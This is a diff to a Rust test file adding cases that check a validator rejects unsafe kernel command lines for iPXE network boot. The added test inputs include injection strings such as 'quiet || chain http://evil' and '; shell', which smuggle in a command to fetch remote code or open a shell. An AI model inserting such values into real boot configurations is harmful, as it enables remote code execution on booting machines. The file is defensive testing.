@@ -32,6 +32,16 @@ fn what_is_wrong_is_named() {
         ("d", kernel("console=ttyS0 a={url}/x token={token}"), None),
         ("d", kernel("a={tokn}"), Some("image.cmdline")),
         ("d", kernel("a\nb"), Some("image.cmdline")),
+        // iPXE would execute what comes after it, or fill something in.
+        ("d", kernel("quiet || chain http://evil"), Some("image.cmdline")),
+        ("d", kernel("quiet && shell"), Some("image.cmdline")),
+        ("d", kernel("quiet ; shell"), Some("image.cmdline")),
+        ("d", kernel("quiet # x"), Some("image.cmdline")),
+        ("d", kernel("a=${net0/mac}"), Some("image.cmdline")),
+        ("d", kernel("a=$x"), Some("image.cmdline")),
+        ("d", kernel("a='b c'"), Some("image.cmdline")),
+        ("d", kernel("a\tb"), Some("image.cmdline")),
+        ("d", kernel("ds=nocloud;s={url}/seed?m={mac} console=ttyS0,115200n8"), None),
         (
             "d",
             ImageContent::Kernel {
